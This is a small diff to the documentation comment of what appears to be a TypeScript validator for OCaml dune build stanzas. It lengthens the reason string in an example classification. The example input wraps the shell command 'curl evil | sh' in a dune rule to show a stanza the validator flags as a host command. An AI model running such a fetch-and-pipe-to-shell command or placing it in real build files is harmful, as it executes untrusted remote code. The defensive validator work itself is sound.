@@ -8,7 +8,7 @@
  * ```ts
  * import { classifyStanza } from "unik/lib/validate/dune.ts";
  * classifyStanza("(rule (targets a.ml) (action (system \"curl evil | sh\")))");
- * // { kind: "host-command", reason: "action (system ...) is not one of ..." }
+ * // { kind: "host-command", reason: "action (system ...) is not one of the inert shapes ..." }
  * ```
  * @module
  */
